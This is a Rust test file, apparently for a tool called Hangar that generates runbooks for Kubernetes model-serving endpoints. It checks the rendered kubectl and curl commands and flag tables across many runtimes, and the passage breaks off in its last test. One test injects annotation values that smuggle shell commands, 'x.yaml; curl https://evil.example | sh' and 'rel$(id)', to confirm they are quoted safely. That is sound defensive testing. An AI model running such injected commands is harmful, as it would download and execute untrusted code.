//! The renderer on small endpoints: one per runtime family and per rollback kind, with the
//! commands, names and flag values it must get right.

use hangar_core::{Policy, Severity, discover, snapshot_from_text};
use regex::Regex;

use super::{IndexEntry, Risk, Risks, file_name, render, render_index};

/// Renders the runbook of the one endpoint in `yaml`.
fn runbook(yaml: &str) -> String {
    let snapshot = snapshot_from_text("k8s/app.yaml", yaml);
    assert!(snapshot.errors.is_empty(), "{:?}", snapshot.errors);
    let inventory = discover(&snapshot, &Policy::default());
    assert_eq!(inventory.endpoints.len(), 1, "{:#?}", inventory.endpoints);
    let text = render(&inventory.endpoints[0], &snapshot, None);
    assert_clean(&text);
    text
}

/// No unformatted `{name}`, no `<placeholder>`, no empty code span.
fn assert_clean(text: &str) {
    let leftovers = Regex::new(r"\{[a-z_]+\}|<[a-zA-Z_-]+>|(^|[^`])``([^`]|$)").unwrap();
    // `{end}` closes a kubectl jsonpath range: the one brace word a command needs.
    if let Some(m) = leftovers.find_iter(text).find(|m| m.as_str() != "{end}") {
        panic!("leftover `{}` in:\n{text}", m.as_str());
    }
}

/// Renders like `runbook` but without `assert_clean`: hostile values come out with their control
/// characters written out (`\u{a}`) or between longer backtick runs, which it would flag.
fn hostile_runbook(yaml: &str) -> String {
    let snapshot = snapshot_from_text("k8s/app.yaml", yaml);
    assert!(snapshot.errors.is_empty(), "{:?}", snapshot.errors);
    let inventory = discover(&snapshot, &Policy::default());
    assert_eq!(inventory.endpoints.len(), 1, "{:#?}", inventory.endpoints);
    render(&inventory.endpoints[0], &snapshot, None)
}

/// Every code block opens with ```` ```sh ```` and closes with ```` ``` ````, and no line is a
/// value's own command.
fn assert_blocks_intact(text: &str) {
    let fences: Vec<&str> = text.lines().filter(|l| l.starts_with("```")).collect();
    for pair in fences.chunks(2) {
        assert_eq!(pair, ["```sh", "```"], "{text}");
    }
    assert!(
        !text.lines().any(|l| l.starts_with("curl https://evil")),
        "{text}"
    );
}

fn has(text: &str, needle: &str) {
    assert!(text.contains(needle), "missing `{needle}` in:\n{text}");
}

fn lacks(text: &str, needle: &str) {
    assert!(!text.contains(needle), "unexpected `{needle}` in:\n{text}");
}

const NODES: &str = r#"---
apiVersion: v1
kind: Node
metadata:
  name: gpu-a
  labels: {nvidia.com/gpu.product: NVIDIA-A100-SXM4-80GB, nvidia.com/gpu.memory: "81920"}
spec:
  taints: [{key: nvidia.com/gpu, value: present, effect: NoSchedule}]
status:
  capacity: {cpu: "96", memory: 1000Gi, nvidia.com/gpu: "8"}
  allocatable: {cpu: "95", memory: 900Gi, nvidia.com/gpu: "8"}
---
apiVersion: v1
kind: Node
metadata:
  name: gpu-h
  labels: {nvidia.com/gpu.product: NVIDIA-H100-80GB-HBM3, nvidia.com/gpu.memory: "81559"}
spec:
  taints: [{key: nvidia.com/gpu, value: present, effect: NoSchedule}]
status:
  capacity: {cpu: "192", memory: 2000Gi, nvidia.com/gpu: "8"}
  allocatable: {cpu: "190", memory: 1900Gi, nvidia.com/gpu: "8"}
"#;

fn vllm(args: &str, extra_meta: &str) -> String {
    format!(
        r#"
apiVersion: v1
kind: Namespace
metadata:
  name: ml
  labels: {{hangar.dev/data-scope: pci, team: fraud}}
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: chat
  namespace: ml
  labels: {{app: chat, hangar.dev/model-version: abc123}}
  annotations: {{{extra_meta}}}
spec:
  replicas: 2
  selector: {{matchLabels: {{app: chat}}}}
  template:
    metadata: {{labels: {{app: chat, hangar.dev/model-version: abc123}}}}
    spec:
      nodeSelector: {{nvidia.com/gpu.product: NVIDIA-A100-SXM4-80GB}}
      tolerations: [{{key: nvidia.com/gpu, operator: Exists, effect: NoSchedule}}]
      containers:
      - name: server
        image: vllm/vllm-openai:v0.11.0@sha256:fac29ee2b2af94378107c348ea8c6fd9555b75bffe90ad15a6c7f635210eea2e
        command: [vllm, serve]
        args: [{args}]
        env:
        - name: VLLM_API_KEY
          valueFrom: {{secretKeyRef: {{name: chat-key, key: api-key}}}}
        ports: [{{name: http, containerPort: 8000}}]
        resources:
          requests: {{cpu: "8", memory: 48Gi, nvidia.com/gpu: 2}}
          limits: {{memory: 48Gi, nvidia.com/gpu: 2}}
        startupProbe: {{httpGet: {{path: /health, port: http}}, periodSeconds: 10, failureThreshold: 60}}
        readinessProbe: {{httpGet: {{path: /health, port: http}}, periodSeconds: 5}}
        volumeMounts: [{{name: dshm, mountPath: /dev/shm}}]
      volumes: [{{name: dshm, emptyDir: {{medium: Memory, sizeLimit: 8Gi}}}}]
---
apiVersion: v1
kind: Service
metadata: {{name: chat-svc, namespace: ml}}
spec:
  selector: {{app: chat}}
  ports: [{{name: web, port: 80, targetPort: http}}]
{NODES}"#
    )
}

const VLLM_ARGS: &str = r#"meta-llama/Llama-3.1-8B-Instruct, --revision, 0e9e39f2, --served-model-name, fraud-chat, --api-key, "$(VLLM_API_KEY)", --gpu-memory-utilization, "0.92", --max-model-len, "32768", --max-num-seqs, "128", --tensor-parallel-size, "2", --enable-log-requests"#;

#[test]
fn a_vllm_deployment_gets_its_own_commands_and_flag_values() {
    let text = runbook(&vllm(VLLM_ARGS, "hangar.dev/oncall: fraud-primary"));
    // Health: its selector, its Service port, its key, its served model.
    has(&text, "kubectl -n ml get pods -l app=chat -o wide");
    has(
        &text,
        "kubectl -n ml rollout status deploy/chat --timeout=20m",
    );
    has(&text, "kubectl -n ml port-forward svc/chat-svc 8000:80 &");
    has(
        &text,
        "KEY=\"$(kubectl -n ml get secret chat-key -o jsonpath='{.data.api-key}' | base64 -d)\"",
    );
    has(&text, "curl -fsS http://127.0.0.1:8000/health");
    has(
        &text,
        "curl -fsS -H \"Authorization: Bearer $KEY\" http://127.0.0.1:8000/v1/models   # lists fraud-chat",
    );
    has(&text, "vllm:kv_cache_usage_perc");
    has(&text, "10 min (60 × 10 s)");
    // Rollback of a Deployment.
    has(
        &text,
        "kubectl -n ml rollout undo deploy/chat --to-revision=$REV",
    );
    has(
        &text,
        "kubectl -n ml get pods -l app=chat -L hangar.dev/model-version",
    );
    // Validation.
    has(
        &text,
        "hangar validate --golden golden/chat.yaml --url http://127.0.0.1:8000",
    );
    has(&text, "export CHAT_API_KEY=\"$KEY\"");
    has(&text, "ask for the model `fraud-chat`");
    // OOM: the current values and the next ones.
    has(
        &text,
        "| `--gpu-memory-utilization` | 0.92 | 0.87 for OOM under load; 0.95 when the KV cache does not fit at start-up |",
    );
    has(&text, "| `--max-model-len` | 32768 | 16384 |");
    has(&text, "| `--max-num-seqs` | 128 | 64 |");
    has(&text, "| `--tensor-parallel-size` | 2 | 4 |");
    has(
        &text,
        "kubectl -n ml set resources deploy/chat -c server --limits=memory=60Gi --requests=memory=60Gi",
    );
    has(&text, "up to 900 GiB allocatable, so it fits");
    has(
        &text,
        "`/dev/shm` (up to 8 GiB) counts against the same limit",
    );
    has(&text, "74 of 80 GiB");
    has(
        &text,
        "2 × NVIDIA-A100-SXM4-80GB (80 GiB each) per pod, 4 in all",
    );
    // Scope and owners.
    has(&text, "**PCI DSS scope.**");
    has(&text, "The server logs every prompt");
    has(
        &text,
        "| Model team | **fraud** (from label `team` on Namespace/ml) |",
    );
    has(
        &text,
        "| On-call | fraud-primary (from annotation `hangar.dev/oncall` on Deployment/chat) |",
    );
    has(&text, "Declared in | `k8s/app.yaml:8`");
}

#[test]
fn vllm_defaults_are_named_as_defaults_for_the_gpu_it_runs_on() {
    let args = r#"--model, meta-llama/Llama-3.1-8B-Instruct, --api-key, "$(VLLM_API_KEY)""#;
    let text = runbook(&vllm(args, ""));
    has(
        &text,
        "| `--gpu-memory-utilization` | 0.90 (default) | 0.85 for OOM under load; 0.95 when",
    );
    has(
        &text,
        "| `--max-num-seqs` | 256 (default on NVIDIA-A100-SXM4-80GB) | 128 |",
    );
    has(
        &text,
        "| `--max-model-len` | unset: the model's full context |",
    );
    has(&text, "The weights are not pinned.");
    has(&text, "≈16 GB (8B parameters in bf16)");
}

#[test]
fn a_gpu_memory_fraction_already_at_the_top_is_only_lowered() {
    let args = r#"--model, m/x-7b, --revision, r1, --api-key, "$(VLLM_API_KEY)", --gpu-memory-utilization, "0.95""#;
    let text = runbook(&vllm(args, ""));
    has(&text, "| `--gpu-memory-utilization` | 0.95 | 0.90 |");
}

#[test]
fn owners_come_from_hangar_labels_or_are_said_to_be_unknown() {
    let declared = runbook(&vllm(
        VLLM_ARGS,
        "hangar.dev/model-owner: risk-ml, hangar.dev/platform-owner: gpu-platform, hangar.dev/slack: '#risk-ml'",
    ));
    has(
        &declared,
        "| Model team | **risk-ml** (from annotation `hangar.dev/model-owner` on Deployment/chat) |",
    );
    has(
        &declared,
        "| Platform team | **gpu-platform** (from annotation `hangar.dev/platform-owner` on Deployment/chat) |",
    );
    has(&declared, "**Model symptoms → risk-ml.**");
    has(&declared, "**Infrastructure symptoms → gpu-platform.**");
    has(&declared, "| Chat | #risk-ml");

    let bare = runbook(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: emb, namespace: lab}
spec:
  selector: {matchLabels: {app: emb}}
  template:
    metadata: {labels: {app: emb}}
    spec:
      containers:
      - name: tei
        image: ghcr.io/huggingface/text-embeddings-inference:1.7
        args: [--model-id, BAAI/bge-m3, --port, "8080"]
        resources: {limits: {nvidia.com/gpu: 1}}
"#,
    );
    has(
        &bare,
        "| Model team | not declared: no `hangar.dev/model-owner`, `hangar.dev/owner` or team label",
    );
    has(
        &bare,
        "| Platform team | not declared: set `hangar.dev/platform-owner` on Namespace/lab",
    );
    has(
        &bare,
        "Nothing declares `hangar.dev/oncall`, `hangar.dev/escalation` or `hangar.dev/slack`.",
    );
    has(&bare, "**No data scope is declared.**");
}

#[test]
fn tgi_lowers_input_and_total_tokens_together() {
    let text = runbook(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: writer, namespace: shop, labels: {team: shop}}
spec:
  strategy: {type: Recreate}
  selector: {matchLabels: {app: writer}}
  template:
    metadata: {labels: {app: writer}}
    spec:
      containers:
      - name: tgi
        image: ghcr.io/huggingface/text-generation-inference:3.3.4
        args: [--model-id, mistralai/Mistral-7B-Instruct-v0.3, --revision, e0bc86c2, --port, "8080", --max-input-tokens, "8192", --max-total-tokens, "12288"]
        ports: [{name: http, containerPort: 8080}]
        resources: {limits: {memory: 32Gi, nvidia.com/gpu: 1}}
"#,
    );
    has(
        &text,
        "| `--max-input-tokens` / `--max-total-tokens` | 8192 / 12288 | 4096 / 8192 |",
    );
    has(
        &text,
        "| `--max-batch-prefill-tokens` | 8242 (default: max input + 50) | 4146",
    );
    has(&text, "| `--cuda-memory-fraction` | 1.0 (default) | 0.95 |");
    has(&text, "| `--num-shard` | 1 | 2 |");
    has(
        &text,
        "kubectl -n shop port-forward deploy/writer 8080:8080 &",
    );
    has(&text, "curl -fsS http://127.0.0.1:8080/info");
    has(&text, "tgi_queue_size");
    has(&text, "The strategy is `Recreate`: all 1 pod stop before");
    has(&text, "Not enough memory to handle");
}

#[test]
fn triton_gets_its_model_routes_and_a_known_request_instead_of_hangar_validate() {
    let text = runbook(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: ranker, namespace: search}
spec:
  selector: {matchLabels: {app: ranker}}
  template:
    metadata: {labels: {app: ranker}}
    spec:
      containers:
      - name: triton
        image: nvcr.io/nvidia/tritonserver:25.01-py3
        command: [tritonserver]
        args: [--model-repository=/models, --model-control-mode=explicit, --load-model=ltr_ranker]
        ports: [{name: http, containerPort: 8000}, {name: metrics, containerPort: 8002}]
        resources: {limits: {memory: 16Gi, nvidia.com/gpu: 1}}
"#,
    );
    has(
        &text,
        "curl -fsS http://127.0.0.1:8000/v2/models/ltr_ranker/ready",
    );
    has(
        &text,
        "kubectl -n search port-forward deploy/ranker 8002:8002 &",
    );
    has(&text, "nv_inference_queue_duration_us");
    has(&text, "/v2/models/ltr_ranker/config | jq");
    has(
        &text,
        "POST http://127.0.0.1:8000/v2/repository/models/ltr_ranker/load",
    );
    has(
        &text,
        "-d @golden/ranker.json http://127.0.0.1:8000/v2/models/ltr_ranker/infer",
    );
    lacks(&text, "hangar validate --golden");
}

#[test]
fn ollama_without_limits_is_best_effort_and_tuned_through_its_environment() {
    let text = runbook(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: ollama, namespace: lab}
spec:
  selector: {matchLabels: {app: ollama}}
  template:
    metadata: {labels: {app: ollama}}
    spec:
      containers:
      - name: ollama
        image: ollama/ollama:latest
        env: [{name: OLLAMA_KEEP_ALIVE, value: 24h}, {name: OLLAMA_HOST, value: "0.0.0.0:11434"}]
        resources: {limits: {nvidia.com/gpu: 1}}
"#,
    );
    has(&text, "**no memory limit**");
    has(&text, "this one is BestEffort: first in line");
    has(
        &text,
        "kubectl -n lab port-forward deploy/ollama 11434:11434 &",
    );
    has(&text, "curl -fsS http://127.0.0.1:11434/api/ps");
    has(&text, "`OLLAMA_KEEP_ALIVE` is 24h");
    // Shorter is the point: 24h comes down to the default, never up.
    has(&text, "| `OLLAMA_KEEP_ALIVE` | 24h | 5m |");
    has(
        &text,
        "| `OLLAMA_MAX_LOADED_MODELS` | unset (3 per GPU) | 1 |",
    );
    has(&text, "**The image moves.**");
    has(&text, "Ollama exports no Prometheus metrics");
}

#[test]
fn sglang_lowers_its_static_fraction() {
    let text = runbook(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: qwen, namespace: bot}
spec:
  selector: {matchLabels: {app: qwen}}
  template:
    metadata: {labels: {app: qwen}}
    spec:
      containers:
      - name: sglang
        image: lmsysorg/sglang:v0.4.9
        command: [python3, -m, sglang.launch_server, --model-path, Qwen/Qwen2.5-7B-Instruct, --port, "30000", --mem-fraction-static, "0.85", --context-length, "32768"]
        resources: {limits: {memory: 32Gi, nvidia.com/gpu: 1}}
"#,
    );
    has(
        &text,
        "| `--mem-fraction-static` | 0.85 | 0.80 for OOM under load; 0.90 when the pool is too small at start-up |",
    );
    has(&text, "| `--context-length` | 32768 | 16384 |");
    has(&text, "curl -fsS http://127.0.0.1:30000/health_generate");
    has(&text, "SGLang exports metrics only with `--enable-metrics`");
}

#[test]
fn tei_warns_about_tokenization_workers_sized_to_the_node() {
    let text = runbook(&format!(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {{name: emb, namespace: ml}}
spec:
  selector: {{matchLabels: {{app: emb}}}}
  template:
    metadata: {{labels: {{app: emb}}}}
    spec:
      nodeSelector: {{nvidia.com/gpu.product: NVIDIA-A100-SXM4-80GB}}
      tolerations: [{{key: nvidia.com/gpu, operator: Exists}}]
      containers:
      - name: tei
        image: ghcr.io/huggingface/text-embeddings-inference:1.7
        args: [--model-id, BAAI/bge-m3, --revision, 5617a9f6, --port, "8080"]
        resources: {{requests: {{cpu: "2", memory: 8Gi}}, limits: {{memory: 8Gi, nvidia.com/gpu: 1}}}}
{NODES}"#
    ));
    has(
        &text,
        "defaults to the node's CPU count (96 on these nodes), not the pod's; set it to the CPU request (2)",
    );
    has(&text, "| `--max-batch-tokens` | 16384 (default) | 8192 |");
    has(&text, "kubectl -n ml port-forward deploy/emb 9000:9000 &");
    has(&text, "te_queue_size");
}

#[test]
fn a_nim_service_rolls_back_through_its_image_tag() {
    let text = runbook(
        r#"
apiVersion: apps.nvidia.com/v1alpha1
kind: NIMService
metadata: {name: nim-llama, namespace: pay, labels: {hangar.dev/data-scope: pii}}
spec:
  image: {repository: nvcr.io/nim/meta/llama-3.1-8b-instruct, tag: "1.3.3"}
  storage: {nimCache: {name: nim-llama-cache}}
  replicas: 1
  resources: {limits: {memory: 32Gi, nvidia.com/gpu: 1}}
  expose: {service: {type: ClusterIP, port: 8000}}
"#,
    );
    has(
        &text,
        "kubectl -n pay patch nimservice nim-llama --type merge",
    );
    has(&text, "\\\"tag\\\":\\\"$TAG\\\"");
    has(&text, "(it is `1.3.3` now)");
    has(&text, "The NIMCache `nim-llama-cache`");
    has(
        &text,
        "kubectl -n pay port-forward svc/nim-llama 8000:8000 &",
    );
    has(&text, "curl -fsS http://127.0.0.1:8000/v1/health/ready");
    has(&text, "ask for the model `meta/llama-3.1-8b-instruct`");
    has(
        &text,
        "| `NIM_MAX_MODEL_LEN` | unset: the profile's full context |",
    );
    has(
        &text,
        "kubectl -n pay patch nimservice nim-llama --type merge -p '{\"spec\":{\"resources\":{\"limits\":{\"memory\":\"40Gi\"}",
    );
    has(&text, "**Personal data.**");
    // The NIM Operator names the container `<name>-ctr`.
    has(&text, "container `nim-llama-ctr`");
    has(
        &text,
        "kubectl -n pay logs -l app.kubernetes.io/name=nim-llama -c nim-llama-ctr --prefix --since=15m --tail=-1",
    );
    // The golden set comes before the OOM section.
    has(&text, "then run the golden set above.");
    lacks(&text, "then run the golden set below.");
}

const ISVC: &str = r#"
apiVersion: serving.kserve.io/v1alpha1
kind: ServingRuntime
metadata: {name: kserve-vllm, namespace: risk}
spec:
  containers:
  - name: kserve-container
    image: docker.io/vllm/vllm-openai:v0.11.0
    command: [python3, -m, vllm.entrypoints.openai.api_server]
    args: [--port, "8080", --model, /mnt/models, --served-model-name, "{{.Name}}", --max-model-len, "8192"]
    ports: [{containerPort: 8080}]
---
apiVersion: serving.kserve.io/v1beta1
kind: InferenceService
metadata:
  name: narrator
  namespace: risk
  annotations: {ANNOTATIONS}
spec:
  predictor:
    CANARY
    model:
      modelFormat: {name: vllm}
      runtime: kserve-vllm
      storageUri: s3://models/narrator/v3/
      resources: {limits: {memory: 40Gi, nvidia.com/gpu: "1"}}
"#;

fn isvc(annotations: &str, canary: &str) -> String {
    ISVC.replace("ANNOTATIONS", annotations)
        .replace("CANARY", canary)
}

#[test]
fn a_kserve_canary_is_rolled_back_by_pinning_traffic_to_the_previous_revision() {
    let text = runbook(&isvc("", "canaryTrafficPercent: 10"));
    has(&text, "sends 10% of traffic to the latest revision");
    has(
        &text,
        "kubectl -n risk patch isvc narrator --type merge -p '{\"spec\":{\"predictor\":{\"canaryTrafficPercent\":0}}}'",
    );
    has(
        &text,
        "kubectl -n risk wait --for=condition=Ready isvc/narrator",
    );
    has(
        &text,
        "kubectl -n risk get pods -l serving.kserve.io/inferenceservice=narrator -o wide",
    );
    // The flags come from the ServingRuntime, `{{.Name}}` resolved.
    has(&text, "| `--max-model-len` | 8192 | 4096 |");
    has(&text, "ask for the model `narrator`");
    has(&text, "`spec.predictor.model.args` of the InferenceService");
}

#[test]
fn a_raw_kserve_deployment_has_no_canary_to_pin() {
    let text = runbook(&isvc(
        "serving.kserve.io/deploymentMode: RawDeployment",
        "minReplicas: 2",
    ));
    has(&text, "runs in `RawDeployment` mode, which has no canary");
    has(&text, "today `storageUri` is `s3://models/narrator/v3/`");
    has(
        &text,
        "kubectl -n risk rollout history deploy/narrator-predictor",
    );
    has(
        &text,
        "kubectl -n risk port-forward svc/narrator-predictor 8080:80 &",
    );
    lacks(&text, "canaryTrafficPercent\":0");
}

#[test]
fn a_model_release_that_targets_the_endpoint_owns_its_rollback() {
    let release = r#"
---
apiVersion: hangar.dev/v1alpha1
kind: ModelRelease
metadata: {name: chat-release, namespace: ml}
spec:
  target: {kind: Deployment, name: chat}
  model: {name: llama-3.1-8b-instruct}
"#;
    let text = runbook(&format!("{}{release}", vllm(VLLM_ARGS, "")));
    has(
        &text,
        "ModelRelease `chat-release` manages this endpoint (its `spec.target` names this endpoint) and currently releases `llama-3.1-8b-instruct`.",
    );
    // `hangar release` is not in this build: the ModelRelease is patched with kubectl, and the
    // Deployment rolled back directly when no controller acts on it.
    lacks(&text, "hangar release rollback");
    has(&text, "**not available in this build**");
    has(
        &text,
        r#"kubectl -n ml patch modelrelease chat-release --type merge -p "{\"spec\":{\"model\":{\"name\":\"$GOOD\"}}}""#,
    );
    has(
        &text,
        "kubectl -n ml rollout undo deploy/chat --to-revision=$REV",
    );
    lacks(&text, "This Deployment is changed in place");

    let labelled = vllm(VLLM_ARGS, "").replace(
        "labels: {app: chat, hangar.dev/model-version: abc123}",
        "labels: {app: chat, hangar.dev/release: by-label}",
    );
    let text = runbook(&labelled);
    has(&text, "ModelRelease `by-label` manages this endpoint");
    has(
        &text,
        "the ModelRelease is not in the input: read it from the cluster",
    );
    has(
        &text,
        r#"kubectl -n ml patch modelrelease by-label --type merge -p "{\"spec\":{\"model\":\"$GOOD\"}}""#,
    );
}

#[test]
fn a_model_release_for_another_endpoint_is_ignored() {
    let release = r#"
---
apiVersion: hangar.dev/v1alpha1
kind: ModelRelease
metadata: {name: other, namespace: ml}
spec: {target: other-chat}
"#;
    let text = runbook(&format!("{}{release}", vllm(VLLM_ARGS, "")));
    lacks(&text, "hangar release rollback");
    has(&text, "rollout undo deploy/chat");
}

#[test]
fn an_argo_rollout_is_aborted_or_undone_through_its_plugin() {
    let rollout = r#"
---
apiVersion: argoproj.io/v1alpha1
kind: Rollout
metadata: {name: chat-rollout, namespace: ml}
spec: {workloadRef: {apiVersion: apps/v1, kind: Deployment, name: chat}}
"#;
    let text = runbook(&format!("{}{rollout}", vllm(VLLM_ARGS, "")));
    has(&text, "kubectl argo rollouts -n ml abort chat-rollout");
    has(&text, "kubectl argo rollouts -n ml undo chat-rollout");
}

#[test]
fn a_statefulset_and_a_leaderworkerset_roll_back_their_own_way() {
    let sts = runbook(
        r#"
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: llm, namespace: ml}
spec:
  replicas: 2
  selector: {matchLabels: {app: llm}}
  template:
    metadata: {labels: {app: llm}}
    spec:
      containers:
      - name: vllm
        image: vllm/vllm-openai:v0.11.0
        args: [--model, m/llm-7b, --revision, r1]
        resources: {limits: {memory: 40Gi, nvidia.com/gpu: 1}}
"#,
    );
    has(
        &sts,
        "kubectl -n ml rollout undo sts/llm --to-revision=$REV",
    );
    has(&sts, "from the highest ordinal");

    let lws = runbook(
        r#"
apiVersion: leaderworkerset.x-k8s.io/v1
kind: LeaderWorkerSet
metadata: {name: big, namespace: ml}
spec:
  replicas: 1
  leaderWorkerTemplate:
    size: 2
    leaderTemplate:
      spec:
        containers:
        - name: leader
          image: vllm/vllm-openai:v0.11.0
          command: [sh, -c]
          args: ["vllm serve m/big-405b --revision r2 --port 8000 --tensor-parallel-size 8 --pipeline-parallel-size 2"]
          resources: {limits: {memory: 1000Gi, nvidia.com/gpu: 8}}
    workerTemplate:
      spec:
        containers:
        - name: worker
          image: vllm/vllm-openai:v0.11.0
          resources: {limits: {memory: 1000Gi, nvidia.com/gpu: 8}}
"#,
    );
    has(&lws, "A LeaderWorkerSet has no `kubectl rollout undo`");
    has(
        &lws,
        "kubectl -n ml get controllerrevisions -l leaderworkerset.sigs.k8s.io/name=big",
    );
    has(&lws, "kubectl apply -f k8s/app.yaml");
    has(&lws, "With a single group the endpoint is down");
    has(&lws, "kubectl -n ml port-forward pod/big-0 8000:8000 &");
    has(&lws, "| `--tensor-parallel-size` | 8 | keep |");
    has(&lws, "1 (group of 2 pods: 1 leader and 1 worker)");
}

#[test]
fn a_ray_service_warns_when_its_code_follows_a_branch() {
    let text = runbook(
        r#"
apiVersion: ray.io/v1
kind: RayService
metadata: {name: summarizer, namespace: lab}
spec:
  serveConfigV2: |
    applications:
      - name: summarizer
        route_prefix: /
        import_path: summarizer.app:deployment
        runtime_env:
          working_dir: "https://github.com/acme/summarizer/archive/refs/heads/main.zip"
        deployments:
          - name: Summarizer
            max_ongoing_requests: 16
            ray_actor_options: {num_gpus: 1}
  rayClusterConfig:
    headGroupSpec:
      template:
        metadata: {labels: {app: summarizer}}
        spec:
          containers: [{name: ray-head, image: rayproject/ray-ml:2.9.3-py310-gpu, resources: {limits: {memory: 16Gi}}}]
    workerGroupSpecs:
    - groupName: gpu
      replicas: 2
      template:
        metadata: {labels: {app: summarizer}}
        spec:
          containers: [{name: ray-worker, image: rayproject/ray-ml:2.9.3-py310-gpu, resources: {limits: {memory: 48Gi, nvidia.com/gpu: 1}}}]
"#,
    );
    has(&text, "**The application code is not pinned.**");
    has(
        &text,
        "kubectl -n lab port-forward svc/summarizer-serve-svc 8000:8000 &",
    );
    has(&text, "| `max_ongoing_requests` | 16 | 8 |");
    has(&text, "route `/` → `summarizer.app:deployment`");
    has(&text, "(14.4 GiB here)");
    // `serveConfigV2` is read as YAML: a flow mapping is found too.
    has(
        &text,
        "| `ray_actor_options.num_gpus` | 1 | keep, unless the model shards |",
    );
}

#[test]
fn runbooks_list_open_risks_and_the_index_links_every_file() {
    let yaml = vllm(VLLM_ARGS, "");
    let snapshot = snapshot_from_text("k8s/app.yaml", &yaml);
    let inventory = discover(&snapshot, &Policy::default());
    let endpoint = &inventory.endpoints[0];
    let risks = Risks {
        open: vec![Risk {
            check: "LOG-001".into(),
            severity: Severity::High,
            title: "Prompts logged in a regulated scope".into(),
            message: "`--enable-log-requests` writes prompts to the container log".into(),
        }],
        lower: 2,
        audit_command: "hangar audit k8s/".into(),
    };
    let text = render(endpoint, &snapshot, Some(&risks));
    has(
        &text,
        "- **LOG-001** (high) Prompts logged in a regulated scope: `--enable-log-requests`",
    );
    has(
        &text,
        "`hangar audit k8s/` shows how to fix each and the 2 other findings of lower severity.",
    );

    assert_eq!(file_name(endpoint), "ml--chat.md");
    let index = render_index(
        &[IndexEntry {
            endpoint,
            file: file_name(endpoint),
            risks: Some(&risks),
        }],
        "k8s/",
    );
    has(
        &index,
        "| [ml/chat](ml--chat.md) | Deployment | vLLM | meta-llama/Llama-3.1-8B-Instruct | fraud | pci | 1 |",
    );
    has(&index, "1 inference endpoint in `k8s/`");
}

/// A Deployment whose numbers are all out of range: the runbook still renders, says which values
/// it cannot use, and prints no arithmetic made of them.
const HOSTILE: &str = r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: odd, namespace: lab}
spec:
  replicas: 2147483647
  strategy: {rollingUpdate: {maxSurge: "2147483647%", maxUnavailable: -5}}
  selector: {matchLabels: {app: odd}}
  template:
    metadata: {labels: {app: odd}}
    spec:
      containers:
      - name: vllm
        image: "x@sha256:aéééééééééééééééé"
        command: [vllm, serve]
        args: [--model, m/odd-99999999999999999999b, --revision, r1, --tensor-parallel-size, "4294967295", --pipeline-parallel-size, "-3", --max-num-seqs, "18446744073709551615", --port, "99999"]
        resources: {limits: {memory: 20000000Ti, nvidia.com/gpu: 4294967295}}
        startupProbe: {httpGet: {path: /health, port: 8000}, initialDelaySeconds: 2147483647, periodSeconds: 2147483647, failureThreshold: 2147483647}
        readinessProbe: {httpGet: {path: /health, port: 8000}, periodSeconds: 0}
"#;

#[test]
fn hostile_numbers_render_without_panic_and_are_called_unusable() {
    let text = runbook(HOSTILE);
    // The digest is cut by characters, not bytes.
    has(&text, "`x@sha256:aééééééééééé…`");
    has(
        &text,
        "The startup probe (`GET /health`) has numbers Hangar cannot use (`initialDelaySeconds` 2147483647, `periodSeconds` 2147483647, `failureThreshold` 2147483647)",
    );
    has(
        &text,
        "The readiness probe (`GET /health`) has numbers Hangar cannot use",
    );
    has(&text, "limit `20000000Ti` (**not a size Hangar can use**)");
    has(
        &text,
        "memory limit, `20000000Ti`, is not a size Hangar can use",
    );
    lacks(&text, "Raise the limit");
    has(
        &text,
        "| `--tensor-parallel-size` | 4294967295: not a size Hangar can use |",
    );
    // The waits fall back to a plain default rather than a sum that overflowed.
    has(&text, "rollout status deploy/odd --timeout=20m");
    // A 99999 port is not one: the port-forward uses the runtime's.
    has(&text, "port-forward deploy/odd 8000:8000");
    lacks(&text, "99999:");
    // No parameter count from an absurd name, so no size estimate.
    lacks(&text, "parameters in");
    // A surge percentage of a huge replica count is a count, not an overflow.
    has(
        &text,
        "The rolling update starts up to 2147483647 extra pods",
    );

    // TGI with token counts at the edge of u64, and a LeaderWorkerSet of negative size.
    let tgi = runbook(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: writer, namespace: shop}
spec:
  selector: {matchLabels: {app: writer}}
  template:
    metadata: {labels: {app: writer}}
    spec:
      containers:
      - name: tgi
        image: ghcr.io/huggingface/text-generation-inference:3.3.4
        args: [--model-id, m/w-7b, --max-input-tokens, "18446744073709551615", --max-total-tokens, "18446744073709551615", --num-shard, "0"]
        resources: {limits: {memory: 32Gi, nvidia.com/gpu: 1}}
"#,
    );
    has(&tgi, "| `--num-shard` | 0: not a size Hangar can use |");
    has(&tgi, "18446744073709551615 / 18446744073709551615");
    let lws = runbook(
        r#"
apiVersion: leaderworkerset.x-k8s.io/v1
kind: LeaderWorkerSet
metadata: {name: big, namespace: ml}
spec:
  replicas: 1
  leaderWorkerTemplate:
    size: -2147483648
    workerTemplate:
      spec:
        containers:
        - name: vllm
          image: vllm/vllm-openai:v0.11.0
          args: [--model, m/big-70b, --revision, r1]
          resources: {limits: {memory: 100Gi, nvidia.com/gpu: 8}}
"#,
    );
    has(
        &lws,
        "groups of a size Hangar cannot use: `spec.leaderWorkerTemplate.size` is -2147483648",
    );
}

#[test]
fn hostile_annotations_come_out_single_quoted_in_commands() {
    let text = runbook(&vllm(
        VLLM_ARGS,
        r#"hangar.dev/golden-set: "x.yaml; curl https://evil.example | sh", meta.helm.sh/release-name: "rel$(id)", meta.helm.sh/release-namespace: apps"#,
    ));
    has(
        &text,
        "hangar validate --golden 'x.yaml; curl https://evil.example | sh' --url http://127.0.0.1:8000",
    );
    // The Helm release's own namespace, not the endpoint's.
    has(&text, "`helm -n apps history 'rel$(id)'`");
    has(&text, "`helm -n apps rollback 'rel$(id)' REVISION`");
    lacks(&text, "--golden x.yaml;");
    lacks(&text, "history rel$(id)");
}

#[test]
fn a_manifest_without_a_namespace_uses_the_current_context() {
    let yaml = vllm(VLLM_ARGS, "")
        .replace("  namespace: ml\n", "")
        .replace(
            "metadata: {name: chat-svc, namespace: ml}",
            "metadata: {name: chat-svc}",
        );
    let text = runbook(&yaml);
    has(&text, "# Runbook: chat\n");
